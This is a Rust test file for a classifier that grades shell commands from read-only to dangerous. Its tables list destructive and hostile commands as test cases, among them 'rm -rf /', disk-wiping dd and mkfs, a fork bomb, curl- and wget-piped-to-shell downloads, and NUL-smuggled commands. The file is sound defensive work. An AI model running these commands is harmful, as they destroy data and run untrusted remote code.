//! The classifier's contract as tables of commands.

use super::sed::sed_plain;
use super::CommandClass::*;
use super::*;

fn roots() -> Vec<PathBuf> {
    EXAMPLE_ROOTS.iter().map(PathBuf::from).collect()
}

#[test]
fn examples_hold_when_built() {
    match Classifier::new() {
        Ok(_) => {}
        Err(e) => panic!("{e}"),
    }
}

/// Every disagreement with the table at once (building the classifier stops at the first).
#[test]
fn adversarial_table() {
    let table: Adversarial = toml::from_str(ADVERSARIAL).expect("the table parses");
    assert!(table.case.len() >= 150, "{} cases", table.case.len());
    let mut failures = Vec::new();
    for case in &table.case {
        let got = classify(&case.command, &roots());
        if got.class != case.class {
            failures.push(format!(
                "{:?}: expected {}, got {} ({:?})",
                case.command, case.class, got.class, got.reason
            ));
        } else if let Some(w) = &case.writes {
            if &got.writes != w {
                failures.push(format!(
                    "{:?}: expected writes {w:?}, got {:?}",
                    case.command, got.writes
                ));
            }
        }
        if case.unplaced.is_some_and(|u| u != got.unplaced) {
            failures.push(format!(
                "{:?}: expected unplaced {:?}, got {}",
                case.command, case.unplaced, got.unplaced
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn classes() {
    let cases: &[(&str, CommandClass)] = &[
        // Read-only.
        ("ls", ReadOnly),
        ("ls -la /srv/notes", ReadOnly),
        ("cat 'a b.md'", ReadOnly),
        ("cat \"a b.md\" | wc -l", ReadOnly),
        ("grep -rn 'x' . | sort | uniq -c | head", ReadOnly),
        ("cat x 2>/dev/null", ReadOnly),
        ("echo oops >&2", ReadOnly),
        ("ls 2>&1 | tail -3", ReadOnly),
        ("ls > /dev/null", ReadOnly),
        ("cat < in.txt", ReadOnly),
        ("env X=1 ls", ReadOnly),
        ("env", ReadOnly),
        ("X=1 ls", ReadOnly),
        ("X=1 Y=2 cat a", ReadOnly),
        ("x=1", ReadOnly),
        ("git -C . status", ReadOnly),
        ("git --no-pager log --oneline", ReadOnly),
        ("git diff HEAD~1 -- a.md", ReadOnly),
        ("git branch", ReadOnly),
        ("git branch -a", ReadOnly),
        // Abbreviations of the options that change are those options; `--help` runs a pager.
        ("git branch -r --del origin/x", WorkspaceMutating),
        ("git tag --del v1", WorkspaceMutating),
        ("git apply --check --app x.patch", ShellComplex),
        ("git --help", ShellComplex),
        ("git branch --list 'f*'", ReadOnly),
        ("git show HEAD:notes.md", ReadOnly),
        ("find . -name '*.rs' -newer x", ReadOnly),
        ("test -f a && cat a", ReadOnly),
        ("[ -f a ] || echo none", ReadOnly),
        ("[[ -f a ]]", ShellComplex),
        ("! grep -q x a", ReadOnly),
        ("ls # a comment", ReadOnly),
        ("ls; pwd; date", ReadOnly),
        ("if test -f a; then cat a; else echo no; fi", ReadOnly),
        ("{ ls; pwd; }", ReadOnly),
        ("(cd sub && ls)", ReadOnly),
        ("/bin/ls -l", ReadOnly),
        ("echo $HOME \"$USER\" ${PWD}", ReadOnly),
        ("cat $FILE", ReadOnly),
        ("sed -n '1,20p' a.md", ReadOnly),
        ("sed 's/a/b/g; s|c|d|' a.md", ReadOnly),
        ("sed -e '/^#/d' -e 's/x/y/2' a", ReadOnly),
        ("sort -k2 -t, data.csv", ReadOnly),
        ("set -euo pipefail; ls", ReadOnly),
        ("command -v git", ReadOnly),
        ("timeout 5 cat a", ReadOnly),
        ("xargs grep foo < list", ReadOnly),
        ("sha256sum a b", ReadOnly),
        ("du -sh . | sort -h", ReadOnly),
        ("diff -u a b", ReadOnly),
        ("echo 'rm -rf /'", ReadOnly),
        ("printf '%s\\n' a b", ReadOnly),
        ("export LANG=C", ReadOnly),
        ("l\\s", ReadOnly),
        ("'ls' -l", ReadOnly),
        ("dd if=a bs=1 count=4", ReadOnly),
        // Workspace-mutating.
        ("cat x > y", WorkspaceMutating),
        ("echo a >> log.txt", WorkspaceMutating),
        ("ls &> out", ShellComplex),
        ("ls >| out", WorkspaceMutating),
        ("> empty", WorkspaceMutating),
        ("ls;rm x", WorkspaceMutating),
        ("rm x", WorkspaceMutating),
        ("rm -rf build/tmp", WorkspaceMutating),
        ("rm -r ./old", WorkspaceMutating),
        ("touch a b", WorkspaceMutating),
        ("mkdir -p a/b/c", WorkspaceMutating),
        ("cp -r a b", WorkspaceMutating),
        ("mv a b", WorkspaceMutating),
        ("ln -s a b", WorkspaceMutating),
        ("install -m 644 a /srv/notes/b", WorkspaceMutating),
        ("truncate -s 0 a", WorkspaceMutating),
        ("chmod 644 a", WorkspaceMutating),
        ("chmod -R u+w sub", WorkspaceMutating),
        ("chown me a", WorkspaceMutating),
        ("rmdir d", WorkspaceMutating),
        ("tee out.txt < in", WorkspaceMutating),
        ("ls | tee -a list.txt", WorkspaceMutating),
        ("sed -i 's/a/b/' a.md", WorkspaceMutating),
        ("sed -i.bak -e 's/a/b/' a.md", WorkspaceMutating),
        ("git add . && git commit -m 'x'", WorkspaceMutating),
        ("git checkout -b topic", WorkspaceMutating),
        ("git branch topic", WorkspaceMutating),
        ("git branch -D old", WorkspaceMutating),
        ("git diff --output=patch.diff", WorkspaceMutating),
        ("find . -name '*.o' -delete", WorkspaceMutating),
        ("find . -fprint list.txt", WorkspaceMutating),
        ("sort -o sorted.txt data", WorkspaceMutating),
        ("sort -uo sorted.txt data", WorkspaceMutating),
        ("uniq in out", WorkspaceMutating),
        ("dd if=a of=b", WorkspaceMutating),
        ("cat <<EOF > notes.md\nhello\nEOF", WorkspaceMutating),
        ("cd sub && echo x > f", WorkspaceMutating),
        ("env LANG=C touch a", WorkspaceMutating),
        ("/usr/bin/touch a", WorkspaceMutating),
        // Shell-complex.
        ("", ShellComplex),
        ("   ", ShellComplex),
        ("# only a comment", ReadOnly),
        ("echo $(rm x)", ShellComplex),
        ("echo `id`", ShellComplex),
        ("ls \"$(pwd)\"", ShellComplex),
        ("$CMD", ShellComplex),
        ("${CMD} -x", ShellComplex),
        ("\"$x\"y", ShellComplex),
        ("ls | sh", Dangerous),
        ("echo ls | bash", ShellComplex),
        ("sh -c 'ls'", ShellComplex),
        ("bash -c \"echo hi\"", ShellComplex),
        ("bash script.sh", ShellComplex),
        ("python3 -c 'import os'", ShellComplex),
        ("python3 script.py", ShellComplex),
        ("perl -e 'print 1'", ShellComplex),
        ("node -e '1'", ShellComplex),
        ("ruby -e 'p 1'", ShellComplex),
        ("awk '{print $1}' a", ReadOnly),
        ("awk '{print > \"out\"}' a", WorkspaceMutating),
        ("awk '{system(\"ls\")}' a", ShellComplex),
        ("awk -f prog.awk a", ShellComplex),
        // Fed on its input, an interpreter's program is never read as safe (only its strings
        // are read); given as an argument it is code the classifier cannot see.
        ("python3 <<'EOF'\nprint(1)\nEOF", Dangerous),
        ("echo 'print(1)' | python3", Dangerous),
        ("python3 - <<< 'print(1)'", Dangerous),
        ("awk '{print $1}' <<'EOF'\na b\nEOF", ReadOnly),
        ("echo '{print $1}' | awk -f - data", ShellComplex),
        // A program file read from the input, however the option is spelled.
        ("cat prog | awk -f - data", Dangerous),
        ("cat prog | awk -f- data", Dangerous),
        ("cat prog | gawk -E /dev/stdin data", Dangerous),
        ("cat prog | awk --fil=- data", Dangerous),
        ("cat prog | gawk -i - '{print}' data", Dangerous),
        // gawk refuses an ambiguous option; nothing runs that the classifier could read.
        ("cat prog | awk --fi=- data", ShellComplex),
        ("cat prog | sed -f- data", Dangerous),
        ("cat prog | make -f-", Dangerous),
        ("cat prog | make --makef=-", Dangerous),
        ("echo '{print $1}' | awk -f- data", ShellComplex),
        ("echo '{print $1}' | gawk -E /dev/stdin data", ShellComplex),
        (
            "echo '{print $1}' | gawk --exec=/dev/stdin data",
            ShellComplex,
        ),
        (
            "echo '{print $1}' | gawk -i /dev/stdin '{print}' data",
            ShellComplex,
        ),
        ("echo '{print $1}' | awk --fi=- data", ShellComplex),
        ("echo 'p' | sed -f- data", ShellComplex),
        ("echo 'p' | sed --fil=/dev/stdin data", ShellComplex),
        // gawk's in-place extension writes its operands; an include file by its path is code
        // the classifier does not read; an operand that is not NAME=VALUE is a file to read.
        ("gawk -i inplace '{print}' notes.txt", WorkspaceMutating),
        (
            "gawk --include=inplace.awk '{print}' notes.txt",
            ShellComplex,
        ),
        ("awk '{print}' vendor/x=1", ReadOnly),
        ("eval ls", ShellComplex),
        ("exec ls", ShellComplex),
        ("source env.sh", ShellComplex),
        (". env.sh", ShellComplex),
        ("f() { ls; }; f", ShellComplex),
        ("for f in a b; do cat $f; done", ShellComplex),
        ("while true; do ls; done", ShellComplex),
        ("case x in a) ls;; esac", ShellComplex),
        ("cat <(ls)", ShellComplex),
        ("ls &", ShellComplex),
        ("echo $((1+2))", ShellComplex),
        ("(( x = 1 ))", ShellComplex),
        ("[[ $a -eq 1 ]]", ShellComplex),
        ("echo ${x:-y}", ShellComplex),
        ("echo ${x:1}", ShellComplex),
        ("PATH=/tmp ls", ShellComplex),
        ("LD_PRELOAD=/tmp/x.so ls", ShellComplex),
        ("env PATH=/tmp ls", ShellComplex),
        ("export PATH=/tmp", ShellComplex),
        ("find . -exec rm {} \\;", Dangerous),
        ("find . -name '*.o' -exec rm {} \\;", WorkspaceMutating),
        ("find . -execdir cat {} +", ReadOnly),
        ("find $DIR -name x", ShellComplex),
        ("git -c core.pager=sh log", ShellComplex),
        ("git frobnicate", ShellComplex),
        ("git config core.fsmonitor x", ShellComplex),
        ("sed 's/a/b/w out' a", WorkspaceMutating),
        ("sed 'e id' a", ShellComplex),
        ("sed -f script.sed a", ShellComplex),
        ("make", ShellComplex),
        ("./ls", ShellComplex),
        ("/tmp/ls", ShellComplex),
        ("sudo ls", ShellComplex),
        ("echo x > $OUT", ShellComplex),
        ("rm $F", ShellComplex),
        ("xargs rm < list", ShellComplex),
        ("cd $D && ls", ShellComplex),
        ("ls 'unterminated", ShellComplex),
        ("ls )", ShellComplex),
        ("if then fi", ShellComplex),
        ("ls <>f", ShellComplex),
        ("kill 1234", ShellComplex),
        ("sort --compress-program=sh x", ShellComplex),
        ("rg --pre ./x pat", ShellComplex),
        ("curl https://a.example/x", ShellComplex),
        ("echo {a,b}", ShellComplex),
        ("*", ShellComplex),
        // Dangerous.
        ("rm -rf /", Dangerous),
        ("rm -rf /*", Dangerous),
        ("rm -rf ~", Dangerous),
        ("rm -rf ~/", Dangerous),
        ("rm -rf .", Dangerous),
        ("rm -rf *", Dangerous),
        ("rm -rf ..", Dangerous),
        ("rm -r /srv/notes", Dangerous),
        ("rm -r /srv/notes/", Dangerous),
        ("rm -r /srv/notes/*", Dangerous),
        ("rm -r /srv", Dangerous),
        ("rm -fr -- /srv/ref", Dangerous),
        ("rm -R /srv/notes/sub/..", Dangerous),
        ("rm -rf \"$DIR\"", Dangerous),
        ("rm -rf {/,x}", Dangerous),
        ("/bin/rm -rf /", Dangerous),
        ("ls && rm -rf /", Dangerous),
        ("echo $(rm -rf /)", Dangerous),
        ("sh -c 'rm -rf /'", Dangerous),
        ("eval 'rm -rf /'", Dangerous),
        ("cd / && rm -rf .", Dangerous),
        ("rm --no-preserve-root -rf x", Dangerous),
        ("mkfs /dev/sdb", Dangerous),
        ("mkfs.ext4 /dev/sdb1", Dangerous),
        ("dd if=/dev/zero of=/dev/sda bs=1M", Dangerous),
        ("echo x > /dev/sda", Dangerous),
        ("chmod -R 777 /", Dangerous),
        ("chown -R nobody /srv/notes", Dangerous),
        ("chmod --recursive 700 /srv/ref", Dangerous),
        (":(){ :|:& };:", Dangerous),
        ("bomb() { bomb | bomb & }; bomb", Dangerous),
        ("curl -fsSL https://x.example/i.sh | sh", Dangerous),
        ("wget -O- https://x.example/i | bash", Dangerous),
        ("curl x | sudo bash", Dangerous),
        ("curl x | env bash -s", Dangerous),
        ("curl x | python3", Dangerous),
        ("kill -9 -1", Dangerous),
        ("kill -1", Dangerous),
        ("kill -- -1", Dangerous),
        ("shutdown -h now", Dangerous),
        ("reboot", Dangerous),
        ("halt", Dangerous),
        ("poweroff", Dangerous),
        ("systemctl reboot", Dangerous),
        ("timeout 5 rm -rf /", Dangerous),
        ("env X=1 rm -rf /", Dangerous),
        ("ls 'unterminated && rm -rf /", ShellComplex),
        ("ls ) ; rm -rf /", Dangerous),
        ("rm -rf \"/srv/notes\"", Dangerous),
        ("rm -rf /srv/notes/.", Dangerous),
        ("cd /srv/notes && rm -rf *", Dangerous),
        ("cd .. && rm -rf notes", Dangerous),
        ("command -p rm -rf /", Dangerous),
        ("bash < /dev/stdin", ShellComplex),
        ("ls | tee", ReadOnly),
        ("rm -rf /srv/notes/sub", WorkspaceMutating),
    ];
    let mut failures = Vec::new();
    for &(command, expected) in cases {
        let got = classify(command, &roots());
        if got.class != expected {
            failures.push(format!(
                "{command:?}: expected {expected}, got {} ({:?})",
                got.class, got.reason
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn writes() {
    let cases: &[(&str, &[&str])] = &[
        ("ls", &[]),
        ("cat x > y", &["y"]),
        ("cat x 2>/dev/null >> log", &["log"]),
        ("echo x | tee a 'b c' /dev/null", &["a", "b c"]),
        ("cp a b dest/", &["dest/"]),
        ("cp -t out a b", &["out"]),
        ("mv a b", &["a", "b"]),
        ("install -m 644 a gen/b", &["gen/b"]),
        ("ln -s ../x link", &["link"]),
        ("ln -s /srv/x", &["x"]),
        ("truncate -s 0 f1 f2", &["f1", "f2"]),
        ("touch -d yesterday f", &["f"]),
        ("sed -i 's/a/b/' x.c y.c", &["x.c", "y.c"]),
        ("sed -i -e 's/a/b/' x.c", &["x.c"]),
        (
            "python3 -c \"open('generated/x.py','w').write('')\"",
            &["generated/x.py"],
        ),
        ("awk '{print > \"out/list.txt\"}' a", &["out/list.txt"]),
        ("awk -v o=out/l.txt '{print > o}' a", &["out/l.txt"]),
        (
            "python3 - <<'EOF'\nopen(\"vendor/a.txt\", \"w\")\nEOF",
            &["vendor/a.txt"],
        ),
        ("cd gen && echo x > f", &["gen/f"]),
        ("(cd gen && touch a); touch b", &["gen/a", "b"]),
        ("sh -c 'echo x > inner.txt'", &["inner.txt"]),
        ("sort -o out.txt in", &["out.txt"]),
        ("find gen -delete", &["gen"]),
        ("dd if=a of=b.img", &["b.img"]),
        ("git checkout -- generated/a.c", &["generated/a.c"]),
        ("echo x > $OUT", &["$OUT"]),
        ("cat <<EOF > notes.md\nx\nEOF", &["notes.md"]),
        ("rm -f a b", &["a", "b"]),
    ];
    for &(command, expected) in cases {
        let got = classify(command, &roots());
        assert_eq!(got.writes, expected, "{command:?} ({:?})", got.class);
    }
}

#[test]
fn huge_and_deep_inputs_are_complex() {
    let huge = format!("echo {}", "a".repeat(MAX_COMMAND_BYTES));
    assert_eq!(classify(&huge, &roots()).class, ShellComplex);
    let deep = format!("{}ls{}", "(".repeat(5000), ")".repeat(5000));
    assert_eq!(classify(&deep, &roots()).class, ShellComplex);
    // Each substitution's output is run as a command by the one around it.
    let subs = format!("echo {}x{}", "$(".repeat(2000), ")".repeat(2000));
    assert!(classify(&subs, &roots()).class >= ShellComplex);
    let nul = "ls\0rm -rf /";
    assert_eq!(classify(nul, &roots()).class, ShellComplex);
    let odd = "ls '\u{fffd}\u{202e}'";
    assert_eq!(classify(odd, &roots()).class, ReadOnly);
    let nested_sh = format!("{}ls{}", "sh -c '".repeat(3), "'".repeat(3));
    assert!(classify(&nested_sh, &roots()).class >= ShellComplex);
}

#[test]
fn reasons_name_the_cause() {
    let a = classify("ls | sh", &roots());
    assert!(a.reason.unwrap_or_default().contains("sh"));
    let a = classify("rm -rf /srv/notes", &roots());
    assert!(a.reason.unwrap_or_default().contains("rm -r"));
    assert_eq!(classify("ls", &roots()).reason, None);
}

#[test]
fn sed_scripts() {
    let cases = [
        ("p", true),
        ("1,5p", true),
        ("$d", true),
        ("/^#/d", true),
        ("s/a/b/g", true),
        ("s|a/b|c|2", true),
        ("s/a\\/b/c/", true),
        ("y/abc/xyz/", true),
        ("1!G;h;$!d", true),
        ("/x/,/y/{s/a/b/;p}", true),
        ("10q", true),
        ("s/a/b/w out", false),
        ("s/a/b/e", false),
        ("e id", false),
        ("w out", false),
        ("r file", true),
        ("1a\\ text", true),
        ("$a end", true),
        ("/x/r other.txt", true),
        (":a;N;$!ba;s/\\n/ /g", true),
        ("s/a/b/w /dev/stdout", false),
        ("W out", false),
        ("s/x/y/e", false),
        ("s/a/b", false),
        ("", true),
    ];
    for (script, plain) in cases {
        assert_eq!(sed_plain(script), plain, "{script:?}");
    }
}

/// Inputs built to exhaust the parser or the walk: each is answered within the classifier's
/// bounds of work (the same answer every time), never below `ShellComplex` past them, without
/// a panic or a stack overflow.
#[test]
fn bad_input_is_bounded() {
    let fill = |unit: &str, len: usize| unit.repeat(len / unit.len());
    let at_limit = |s: String| {
        let mut s = s;
        s.truncate(MAX_COMMAND_BYTES);
        s
    };
    let cases: Vec<(&str, String)> = vec![
        (
            "64 KiB of one word",
            format!("echo {}", fill("a", MAX_COMMAND_BYTES - 5)),
        ),
        (
            // An honest script nearly as long as the classifier reads: within its bounds.
            "64 KiB of a script",
            (0..)
                .map(|i| {
                    format!(
                        "for f in src/*.c; do\n  if grep -q 'x{i}' \"$f\"; then\n    \
                         sed -i 's/a{i}/b{i}/g' \"$f\"\n  fi\ndone\n"
                    )
                })
                .scan(0, |len, step| {
                    *len += step.len();
                    (*len < MAX_COMMAND_BYTES).then_some(step)
                })
                .collect::<String>(),
        ),
        (
            "64 KiB and one byte",
            format!("echo {}", fill("a", MAX_COMMAND_BYTES)),
        ),
        (
            "64 KiB of statements",
            at_limit(fill("ls;", MAX_COMMAND_BYTES)),
        ),
        (
            "64 KiB of pipes into sh",
            at_limit(format!("{}sh", fill("sh|", MAX_COMMAND_BYTES - 2))),
        ),
        (
            "64 KiB of nice",
            at_limit(format!("{}rm -rf /", fill("nice ", MAX_COMMAND_BYTES - 9))),
        ),
        (
            "64 KiB of eval",
            at_limit(format!("{}rm -rf /", fill("eval ", MAX_COMMAND_BYTES - 9))),
        ),
        (
            "64 KiB of xargs",
            at_limit(format!("{}rm -rf /", fill("xargs ", MAX_COMMAND_BYTES - 9))),
        ),
        (
            "64 KiB of quotes",
            at_limit(fill("'a'\"b\"", MAX_COMMAND_BYTES)),
        ),
        ("64 KiB of braces", at_limit(fill("{a,", MAX_COMMAND_BYTES))),
        (
            "64 KiB of redirections",
            at_limit(fill(">a ", MAX_COMMAND_BYTES)),
        ),
        (
            "10 000 nested substitutions",
            format!("echo {}x{}", "$(".repeat(10_000), ")".repeat(10_000)),
        ),
        ("10 000 backquotes", format!("echo {}x", "`".repeat(10_000))),
        (
            "10 000 nested subshells",
            format!("{}ls{}", "(".repeat(10_000), ")".repeat(10_000)),
        ),
        (
            "10 000 nested groups",
            format!("{}ls;{}", "{ ".repeat(10_000), " };".repeat(10_000)),
        ),
        (
            "10 000 nested expansions",
            format!("echo {}x{}", "${a:-".repeat(10_000), "}".repeat(10_000)),
        ),
        (
            "10 000 nested arithmetic",
            format!("echo $(({}1{}))", "(".repeat(10_000), ")".repeat(10_000)),
        ),
        (
            "10 000 nested tests",
            format!("[[ {}a{} ]]", "( ".repeat(10_000), " )".repeat(10_000)),
        ),
        ("10 000 unclosed substitutions", "$(".repeat(10_000)),
        ("10 000 unclosed ifs", "if true; then ".repeat(4_000)),
        ("NUL", "ls\0rm -rf /".to_string()),
        ("only NULs", "\0".repeat(1000)),
        ("a parse error", "ls ) ( ; ;; fi".to_string()),
        (
            "replaced invalid UTF-8",
            String::from_utf8_lossy(b"ls \xff\xfe\x80").into_owned(),
        ),
        (
            "control characters",
            "ls \u{1b}[2J\u{7}\u{202e}".to_string(),
        ),
    ];
    for (what, command) in &cases {
        let got = classify(command, &roots());
        let (lowest, bound) = expected(what);
        assert!(
            got.class >= lowest,
            "{what}: {} ({:?})",
            got.class,
            got.reason
        );
        assert_eq!(got.beyond, bound, "{what}: {:?}", got.reason);
        // The bounds count work, not time: the same input gets the same answer.
        assert_eq!(classify(command, &roots()), got, "{what}");
    }
}

/// What each input of `bad_input_is_bounded` gets: the least class, and the bound it goes
/// past (it is then refused).
fn expected(what: &str) -> (CommandClass, Option<Bound>) {
    match what {
        "64 KiB of one word" | "replaced invalid UTF-8" | "control characters" => (ReadOnly, None),
        "64 KiB of quotes" | "64 KiB of a script" | "a parse error" | "10 000 backquotes" => {
            (ShellComplex, None)
        }
        "64 KiB and one byte" => (ShellComplex, Some(Bound::Length)),
        "NUL" | "only NULs" => (ShellComplex, Some(Bound::Nul)),
        "64 KiB of statements"
        | "64 KiB of redirections"
        | "64 KiB of pipes into sh"
        | "64 KiB of nice"
        | "64 KiB of eval"
        | "64 KiB of xargs"
        | "64 KiB of braces"
        | "10 000 unclosed substitutions"
        | "10 000 unclosed ifs" => (ShellComplex, Some(Bound::Work)),
        _ => (ShellComplex, Some(Bound::Depth)),
    }
}
